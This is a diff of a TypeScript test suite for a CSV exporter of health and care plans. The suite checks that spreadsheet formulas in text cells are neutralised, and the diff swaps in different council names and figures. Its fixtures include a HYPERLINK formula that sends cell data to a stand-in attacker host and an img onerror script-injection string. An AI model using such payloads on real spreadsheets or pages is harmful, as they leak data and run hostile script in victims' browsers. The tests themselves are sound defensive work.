@@ -42,7 +42,7 @@ function readTable(dir: string, name: string): Table {
 describe('formula neutralisation (text cells)', () => {
   it.each([
     ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
-    ['+44 1785 000000', `'+44 1785 000000`],
+    ['+44 1623 000000', `'+44 1623 000000`],
     ['-2+3 failure to recruit', `'-2+3 failure to recruit`],
     ['@SUM(1+1)', `'@SUM(1+1)`],
     ['\tindented', `'\tindented`],
@@ -54,13 +54,13 @@ describe('formula neutralisation (text cells)', () => {
 
   it('leaves ordinary text, and the trigger characters inside text, alone', () => {
     expect(neutraliseFormula('Carers Support')).toBe('Carers Support');
-    expect(neutraliseFormula('£1,997,385 = 5% of total')).toBe('£1,997,385 = 5% of total');
+    expect(neutraliseFormula('£1,486,230 = 5% of total')).toBe('£1,486,230 = 5% of total');
     expect(neutraliseFormula('')).toBe('');
   });
 
   it('keeps numeric columns numeric, negative amounts included', () => {
     expect(csvCell(-129506, 'integer')).toBe('-129506');
-    expect(csvCell(97.9, 'number')).toBe('97.9');
+    expect(csvCell(97.3, 'number')).toBe('97.3');
     expect(csvCell(null, 'integer')).toBe('');
   });
 
@@ -96,12 +96,12 @@ describe('plansift export on a database of five plans', () => {
   it('plans.csv: one row per area and round, with its code and current file; failed and removed files in none', () => {
     const plans = readTable(fx.dir, 'plans').rows;
     expect(plans.map((p) => [p.area_name, p.hwb_area_code, p.round, p.document_count])).toEqual([
-      ['Derby City Council', 'E06000015', '2015-16', '1'],
-      ['Derby City Council', 'E06000015', '2022-23', '1'],
-      ['Staffordshire County Council', 'E10000028', '2015-16', '1'],
+      ['Leicester City Council', 'E06000016', '2015-16', '1'],
+      ['Leicester City Council', 'E06000016', '2022-23', '1'],
+      ['Nottinghamshire County Council', 'E10000024', '2015-16', '1'],
     ]);
-    expect(plans[0].current_document_id).toBe(String(fx.ids.derby2014));
-    expect(plans[0].paths).toBe('2014/derby-city-bcf.pdf');
+    expect(plans[0].current_document_id).toBe(String(fx.ids.revisedPlan2014));
+    expect(plans[0].paths).toBe('2014/leicester-city-bcf.pdf');
   });
 
   it('lists every plan, failed and removed ones included, with counts', () => {
@@ -110,11 +110,11 @@ describe('plansift export on a database of five plans', () => {
     const byId = new Map(plans.map((p) => [Number(p.document_id), p]));
     expect(byId.get(fx.ids.failed)).toMatchObject({ status: 'failed', failure_reason: 'encrypted', area_name: '2015/encrypted-plan.pdf', flags_error: '1' });
     expect(byId.get(fx.ids.removed)).toMatchObject({ status: 'removed', removed_at: '2026-11-20T02:00:00.000Z' });
-    expect(byId.get(fx.ids.staffordshire2014)).toMatchObject({
-      local_authorities: 'Staffordshire County Council; Cannock Chase District Council; Tamworth Borough Council',
+    expect(byId.get(fx.ids.originalPlan2014)).toMatchObject({
+      local_authorities: 'Nottinghamshire County Council; Mansfield District Council; Bassetlaw District Council',
       sections_present: '14', sections_missing: '1', sections_placeholder: '0', flags_error: '2', flags_warning: '2', risks: '4',
     });
-    expect(byId.get(fx.ids.derby2014)).toMatchObject({ template: 'bcf-2014-revised', pages: '31', sections_placeholder: '1', schemes: '4' });
+    expect(byId.get(fx.ids.revisedPlan2014)).toMatchObject({ template: 'bcf-2014-revised', pages: '31', sections_placeholder: '1', schemes: '4' });
   });
 
   it('puts document id and area name on every item row, matching plans.csv', () => {
@@ -128,19 +128,19 @@ describe('plansift export on a database of five plans', () => {
 
   it('keeps £, commas, quotes and line breaks through a round trip', () => {
     const budgets = readTable(fx.dir, 'budgets').rows;
-    expect(budgets.find((b) => b.amount_gbp === '957000')?.source_text).toBe('£957,000');
+    expect(budgets.find((b) => b.amount_gbp === '812000')?.source_text).toBe('£812,000');
     const schemes = readTable(fx.dir, 'schemes').rows;
-    expect(schemes.find((s) => s.ref === '4' && s.document_id === String(fx.ids.derby2014))?.name).toBe('Enablers, Workforce and "Digital" Systems');
-    expect(schemes.find((s) => s.ref === '3' && s.document_id === String(fx.ids.staffordshire2014))?.theme).toBe('Prevention, "early help"\nand self-care');
+    expect(schemes.find((s) => s.ref === '4' && s.document_id === String(fx.ids.revisedPlan2014))?.name).toBe('Enablers, Workforce and "Digital" Systems');
+    expect(schemes.find((s) => s.ref === '3' && s.document_id === String(fx.ids.originalPlan2014))?.theme).toBe('Prevention, "early help"\nand self-care');
     const risks = readTable(fx.dir, 'risks').rows;
-    expect(risks.map((r) => r.mitigation)).toContain('Focus activity on approaches most likely to deliver financial benefits, "as well as" population outcomes');
+    expect(risks.map((r) => r.mitigation)).toContain('Target the schemes most likely to deliver savings, "as well as" better outcomes');
   });
 
   it('neutralises formulas in the files but leaves the negative amount a number', () => {
     const schemes = readTable(fx.dir, 'schemes').rows;
     expect(schemes.map((s) => s.name)).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
     const risks = readTable(fx.dir, 'risks').rows;
-    expect(risks.map((r) => r.mitigation)).toEqual(expect.arrayContaining(["'@SUM(1+1) weekly review", "'+44 1785 000000 escalation line"]));
+    expect(risks.map((r) => r.mitigation)).toEqual(expect.arrayContaining(["'@SUM(1+1) weekly review", "'+44 1623 000000 escalation line"]));
     expect(risks.map((r) => r.description)).toContain("'-2+3 failure to recruit domiciliary care staff in rural areas");
     const adjustment = readTable(fx.dir, 'budgets').rows.find((b) => b.label === 'Adjustment, carried forward');
     expect(adjustment).toMatchObject({ amount_gbp: '-129506', source_text: "'-£129,506", year: '2015-16' });
@@ -148,7 +148,7 @@ describe('plansift export on a database of five plans', () => {
 
   it('exports metrics with numerator and denominator, and flags with page and quoted text', () => {
     const metrics = readTable(fx.dir, 'metrics').rows;
-    expect(metrics.find((m) => m.metric === 'reablement' && m.period === '2022-23')).toMatchObject({ kind: 'plan', value: '81.5', numerator: '831', denominator: '1020', unit: 'percent' });
+    expect(metrics.find((m) => m.metric === 'reablement' && m.period === '2022-23')).toMatchObject({ kind: 'plan', value: '81.7', numerator: '688', denominator: '842', unit: 'percent' });
     const flags = readTable(fx.dir, 'flags').rows;
     expect(flags.find((f) => f.code === 'RISK_SCORE_MISMATCH')).toMatchObject({ page: '8', section: 'risks.risk_log', severity: 'warning' });
     expect(flags.find((f) => f.code === 'UNSIGNED')?.source_text).toBe('<name of signatory> <job title> <date>');
@@ -157,11 +157,11 @@ describe('plansift export on a database of five plans', () => {
   it('exports notes with stage, page and quoted text, neutralised like every text cell', () => {
     const notes = readTable(fx.dir, 'notes').rows;
     expect(notes.map((n) => [n.document_id, n.ord, n.level, n.stage, n.page])).toEqual([
-      [String(fx.ids.derby2014), '0', 'info', 'extract', ''],
-      [String(fx.ids.derby2014), '1', 'info', 'extract', '8'],
-      [String(fx.ids.removed), '0', 'info', 'extract', ''], // the removed draft is a copy of the Derby record
+      [String(fx.ids.revisedPlan2014), '0', 'info', 'extract', ''],
+      [String(fx.ids.revisedPlan2014), '1', 'info', 'extract', '8'],
+      [String(fx.ids.removed), '0', 'info', 'extract', ''], // the removed draft is a copy of the revised 2014 record
       [String(fx.ids.removed), '1', 'info', 'extract', '8'],
-      [String(fx.ids.staffordshire2014), '0', 'info', 'budgets', ''],
+      [String(fx.ids.originalPlan2014), '0', 'info', 'budgets', ''],
     ]);
     expect(notes[1].message).toBe('table continued from page 7 to page 8 (repeated header row dropped)');
     expect(notes[4]).toMatchObject({ message: '"-£300k - £450k" is a range, not read as an amount', source_text: `'-£300k - £450k <img src=x onerror="window.__xss=3">` });
